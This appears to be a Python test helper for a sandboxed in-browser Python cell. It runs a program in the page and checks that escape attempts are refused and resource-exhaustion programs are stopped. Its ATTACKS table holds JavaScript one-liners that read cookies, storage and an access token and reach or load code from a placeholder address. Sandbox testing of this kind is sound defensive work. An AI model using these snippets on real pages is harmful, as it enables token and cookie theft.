"""Programs for the cell, and how a test runs one in whatever browser it has."""

# In the page: put a program into the editor, as an example is, or leave what is there; run it, return what came of it.
RUN = """
async (code, stops) => {
  const at = (id) => document.getElementById(id);
  const until = async (met) => { while (!met()) await new Promise((go) => setTimeout(go, 20)); };
  const example = at("example");
  if (code) {
    example.options[0].dataset.code = code;
    example.selectedIndex = 0;
    example.dispatchEvent(new Event("change"));
  }
  at("run").click();
  if (stops) {
    await until(() => at("run-status").textContent === "The program runs.");
    at("stop").click();
  }
  await until(() => at("stop").disabled);
  return { status: at("run-status").textContent, output: at("output").textContent, links: at("output").querySelectorAll("a").length };
}
"""

# Each is tried in the worker by JavaScript, since that is all that a program can reach the browser with.
ATTACKS = {
    "the page": "parent.document.body.innerHTML",
    "its token": "document.getElementById('access-token').value",
    "its storage": "localStorage.getItem('states') || 'read'",
    "cookies": "document.cookie",
    "a database": "new Promise((r, j) => { const q = indexedDB.open('x'); q.onsuccess = () => r('opened'); q.onerror = () => j(q.error); })",
    "caches": "caches.keys().then((names) => { if (!names.length) throw 'empty'; return names; })",
    "files": "navigator.storage.getDirectory()",
    "fetch": "WorkerGlobalScope.prototype.fetch.call(self, 'STOLEN').then((r) => r.status)",
    "fetch without CORS": "WorkerGlobalScope.prototype.fetch.call(self, 'STOLEN', { mode: 'no-cors' }).then((r) => r.type)",
    "a request": "(() => { const x = new XMLHttpRequest(); x.open('GET', 'STOLEN', false); x.send(); return x.status; })()",
    "a socket": "new Promise((r, j) => { const s = new WebSocket('STOLEN'.replace('http', 'ws')); s.onopen = () => r('open'); s.onerror = j; })",
    "events": "new Promise((r, j) => { const s = new EventSource('STOLEN'); s.onopen = () => r('open'); s.onerror = j; })",
    "a script": "importScripts('STOLEN') || 'imported'",
    "a module": "import('STOLEN')",
    "a worker": "new Promise((r, j) => { const w = new Worker('STOLEN'); w.onmessage = r; w.onerror = j; })",
}
# What is not refused within this time reached nobody either: the server says so.
_MILLISECONDS = 1500


def attack(stolen: str) -> str:
    """Return the program that tries each attack, and prints what it reached; `stolen` is the address to reach."""
    attempts = {name: script.replace("STOLEN", stolen) for name, script in ATTACKS.items()}
    return f"""
from pyodide.code import run_js
import asyncio
from pyodide.ffi import run_sync, can_run_sync
for name, script in {attempts!r}.items():
    try:
        found = run_js(script)
        if hasattr(found, "then"):
            run_js("(p) => {{ p.then((v) => postMessage({{ event: 'output', text: 'REACHED by promise ' + v }}), () => 0); }}")(found)
            print("asked:", name)
        else:
            print("REACHED", name, found)
    except BaseException as error:
        print("refused:", name, type(error).__name__)
import time
time.sleep({_MILLISECONDS / 1000})
print("END")
"""


HARMS = {
    "two gigabytes": ("x = bytearray(2 * 10**9)", "The program wanted more memory than it may have here: 768 MiB."),
    "ever more": ("x = []\nwhile True: x.append(bytearray(10**7))", "The program wanted more memory"),
    "ten megabytes of output": ("while True: print('x' * 10_000)", "Stopped: the program printed more"),
    "many small outputs": ("while True: print('x')", "Stopped: the program printed more"),
    "an answer": ("input('Name? ')", "The program ended with an error."),
    "threads": ("import threading\nthreading.Thread(target=print).start()", "There are no threads here."),
    "a deep recursion": ("def f(): f()\nf()", "The program ended with an error."),
}
FOR_EVER = "while True: pass"
